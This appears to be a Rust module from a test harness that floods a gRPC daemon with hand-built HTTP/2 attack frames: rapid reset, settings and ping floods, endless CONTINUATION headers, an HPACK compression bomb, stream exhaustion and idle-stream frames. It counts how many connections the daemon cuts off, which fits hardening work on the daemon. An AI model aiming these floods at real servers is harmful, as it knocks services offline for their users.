// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Floods of HTTP/2 frames, built by hand. Each is cheap to send, and costs a careless server memory or time.
#![expect(clippy::disallowed_methods, reason = "a program of its own, which waits in real time")]

use crate::line::Line;
use std::io::{Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

/// Kinds of floods.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Flood {
    /// Requests that are cancelled at once.
    Reset,
    /// Settings, each of which asks for an answer.
    Settings,
    /// Pings, each of which asks for an answer.
    Ping,
    /// One header list without an end.
    Endless,
    /// Small blocks that unpack to megabytes of headers.
    Bomb,
    /// Requests that never end, as many as there may be, and more.
    Streams,
    /// Data frames without data.
    Empty,
    /// Windows and priorities of streams that there are not.
    Idle,
}

impl Flood {
    /// All kinds.
    pub const ALL: [Self; 8] = [
        Self::Reset,
        Self::Settings,
        Self::Ping,
        Self::Endless,
        Self::Bomb,
        Self::Streams,
        Self::Empty,
        Self::Idle,
    ];
}

/// What the floods did.
#[derive(Clone, Copy, Default, Debug)]
pub struct Tally {
    /// Frames sent.
    pub frames: u64,
    /// Frames of each kind of flood, in the order of [`Flood::ALL`].
    pub of_each: [u64; Flood::ALL.len()],
    /// Connections that the daemon ended.
    pub ended: u64,
}

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// Flag of the last frame of a header list.
const END_HEADERS: u8 = 4;

/// Longest payload without another setting.
const MOST: usize = 16 << 10;
/// Frames that are written at once, and for how long one connection goes on.
const BATCH: usize = 64;
const TURN: Duration = Duration::from_millis(500);

fn big_endian(number: u32) -> [u8; 4] {
    zerocopy::big_endian::U32::new(number).to_bytes()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short");
    let length = big_endian(length);
    [&length[1..], &[kind, flags], &big_endian(stream), payload].concat()
}

/// A header that is not added to the table of the connection.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let length = |text: &str| u8::try_from(text.len()).expect("short");
    [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
}

/// The headers of a call that lists volumes.
fn call() -> Vec<u8> {
    [
        literal(":method", "POST"),
        literal(":scheme", "http"),
        literal(":path", "/gnstor.v1.Volumes/List"),
        literal(":authority", "daemon"),
        literal("content-type", "application/grpc"),
        literal("te", "trailers"),
    ]
    .concat()
}

/// The next frames of a flood on a connection that has sent so many.
fn frames_of(flood: Flood, sent: u64) -> Vec<Vec<u8>> {
    let nth = u32::try_from(sent & 0x0FFF_FFFF).expect("28 bits");
    let stream = 2 * nth + 1;
    match flood {
        Flood::Reset => {
            let cancel = frame(RST_STREAM, 0, stream, &big_endian(8));
            vec![frame(HEADERS, END_HEADERS, stream, &call()), cancel]
        }
        Flood::Settings => vec![frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])],
        Flood::Ping => vec![frame(PING, 0, 0, &[7; 8])],
        Flood::Endless => {
            let block: Vec<u8> = (0..100).flat_map(|_| literal("x-long", &"y".repeat(100))).collect();
            let kind = if sent == 0 { HEADERS } else { CONTINUATION };
            vec![frame(kind, 0, 1, &block)]
        }
        Flood::Bomb => {
            // A header of 3 KiB goes to the table. Then each byte names it once more.
            let value = "z".repeat(3000);
            let length = value.len() - 127;
            let (low, high) = (u8::try_from(length & 0x7F), u8::try_from(length >> 7));
            let packed = [0x7F, low.expect("7 bits") | 0x80, high.expect("short")];
            let first = [&[0x40, 1, b'b'], &packed[..], value.as_bytes()].concat();
            let block = [call(), first, vec![0xBE; MOST - 4000]].concat();
            vec![frame(HEADERS, END_HEADERS, stream, &block)]
        }
        Flood::Streams => vec![frame(HEADERS, END_HEADERS, stream, &call())],
        Flood::Empty if sent == 0 => vec![frame(HEADERS, END_HEADERS, 1, &call())],
        Flood::Empty => vec![frame(DATA, 0, 1, &[])],
        Flood::Idle => {
            let priority = [0, 0, 0, 0, 9];
            let window = frame(WINDOW_UPDATE, 0, 0, &big_endian(1));
            vec![frame(PRIORITY, 0, stream, &priority), window]
        }
    }
}

/// Floods on one connection until its turn is over, or the daemon ends it. Every other one reads no answer.
fn flood_once(address: SocketAddr, flood: Flood, reads: bool, tally: &mut u64) -> std::io::Result<()> {
    let mut line = Line::connect(address)?;
    line.tcp().set_write_timeout(Some(TURN))?;
    line.tcp().set_read_timeout(Some(Duration::from_millis(1)))?;
    line.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    line.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    let (begun, mut sent, mut answers) = (Instant::now(), 0, vec![0; 64 << 10]);
    while begun.elapsed() < TURN {
        let mut bytes = Vec::new();
        for _ in 0..BATCH {
            let frames = frames_of(flood, sent);
            *tally += frames.len() as u64;
            sent += 1;
            bytes.extend(frames.concat());
        }
        line.write_all(&bytes)?;
        line.flush()?;
        if reads && matches!(line.read(&mut answers), Ok(0)) {
            return Err(std::io::ErrorKind::ConnectionAborted.into());
        }
    }
    Ok(())
}

/// Floods the daemon for this time, in one way or in all.
pub fn run(address: SocketAddr, time: Duration, only: Option<Flood>) -> Tally {
    let until = Instant::now() + time;
    let mut tally = Tally::default();
    for nth in 0.. {
        if Instant::now() >= until {
            break;
        }
        let any = nth % Flood::ALL.len();
        let place = Flood::ALL.iter().position(|&flood| Some(flood) == only).unwrap_or(any);
        let reads = (nth / Flood::ALL.len()).is_multiple_of(2);
        let ended = flood_once(address, Flood::ALL[place], reads, &mut tally.of_each[place]);
        tally.ended += u64::from(ended.is_err());
    }
    tally.frames = tally.of_each.iter().sum();
    tally
}
